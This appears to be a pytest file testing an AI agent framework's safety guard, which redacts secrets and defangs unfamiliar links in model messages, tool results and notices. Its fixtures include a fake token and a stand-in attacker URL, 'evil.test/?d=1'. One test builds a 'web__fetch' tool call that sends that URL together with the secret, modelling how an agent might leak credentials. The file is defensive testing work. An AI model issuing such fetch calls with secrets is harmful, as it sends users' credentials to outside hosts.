"""What a model is told and what it writes, on its way through the guard."""

from __future__ import annotations

import pytest
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage

from sahur_core.config import SafetyConfig
from sahur_core.events import NoticeRaised
from sahur_core.issues import Claim, Patch, Solution, ToolResultStatus, Verdict
from sahur_core.protocols import ToolOutcome
from sahur_core.safety.guard import Guard, GuardedEvents, unknown_addresses
from tests.core.workflows.world import Sink

SECRET = "ghp_" + "aB3dE5fG7hJ9kL1mN3pQ5rS7tU9vW1xY3zA5"
PULL = "https://github.com/acme/shop/pull/7"
EVIL = "https://evil.test/?d=1"


@pytest.fixture
def guard():
    return Guard(SafetyConfig(known_secrets=("our-own-credential-1",), link_hosts=("github.com",)))


@pytest.fixture
def words(guard):
    return guard.words([HumanMessage("It came with the change."), ToolMessage(f'{{"url": "{PULL}"}}', tool_call_id="1")])


def test_a_model_is_told_no_secret_and_else_what_was_said(guard):
    messages = [HumanMessage("fine"), AIMessage(f"a {SECRET}", tool_calls=[{"name": "x", "args": {"q": SECRET}, "id": "1"}])]
    told = guard.for_model(messages)
    assert told[0] is messages[0]
    assert (told[1].text, told[1].tool_calls[0]["args"]) == ("a [redacted: GitHub Token]", {"q": "[redacted: GitHub Token]"})


def test_a_result_loses_its_secrets_in_text_and_structure(guard):
    outcome = ToolOutcome(status=ToolResultStatus.OK, text=SECRET, structured={"a": ["our-own-credential-1"]})
    clean = guard.result(outcome)
    assert clean.text == "[redacted: GitHub Token]"
    assert clean.structured == {"a": ["[redacted: credential of this system]"]}


def test_words_keep_links_that_a_result_showed_and_lose_others(words):
    message = words.message(AIMessage(f"See {PULL} and {EVIL} {SECRET}"))
    assert message.text == f"See {PULL} and hxxps://evil.test/?d=1 [redacted: GitHub Token]"
    assert (words.secrets, words.links, len(words.notices())) == (1, 1, 2)


def test_arguments_for_tools_stay_exact_but_for_secrets_and_words_for_people_lose_links(words):
    calls = [
        {"name": "web__fetch", "args": {"url": EVIL, "key": SECRET}, "id": "1"},
        {"name": "ask_person", "args": {"question": EVIL}, "id": "2"},
        {"name": "record_evidence", "args": {"statement": EVIL, "quote": EVIL}, "id": "3"},
    ]
    fetch, ask, record = (call["args"] for call in words.message(AIMessage("", tool_calls=calls)).tool_calls)
    assert fetch == {"url": EVIL, "key": "[redacted: GitHub Token]"}
    assert ask == {"question": "hxxps://evil.test/?d=1"}
    assert record == {"statement": "hxxps://evil.test/?d=1", "quote": EVIL}


def test_a_form_is_cleaned_in_its_depth_and_stays_of_its_kind(words):
    diff = f"--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+{EVIL}\n"
    solution = Solution(
        verdict=Verdict.LIKELY, summary=EVIL, claims=[Claim(statement=EVIL, evidence=[1])], next_step="n",
        patch=Patch(diff=diff, commit="c", paths=["x"]),
    )  # fmt: skip
    clean = words.form(solution)
    assert (clean.summary, clean.claims[0].statement) == ("hxxps://evil.test/?d=1",) * 2
    assert (clean.verdict, clean.patch.diff) == (Verdict.LIKELY, diff)
    assert words.form(clean) == clean


def test_notices_tell_what_others_said_without_secrets_and_links(guard):
    sink = Sink()
    GuardedEvents(sink, guard).emit(NoticeRaised(level="warning", message=f"The server says: {SECRET}, see {EVIL}"))
    [notice] = sink.events
    assert notice.message == "The server says: [redacted: GitHub Token], see hxxps://evil.test/?d=1"


def test_only_addresses_that_were_read_may_be_sent(guard):
    links = guard.links(
        [HumanMessage("Look at https://status.test/a."), AIMessage(f"I open {EVIL}"), ToolMessage(EVIL, tool_call_id="1")]
    )
    assert unknown_addresses({"url": "https://status.test/a"}, links) == []
    assert unknown_addresses({"urls": [{"x": EVIL}, "https://status.test/a?d=1"]}, links) == [EVIL, "https://status.test/a?d=1"]
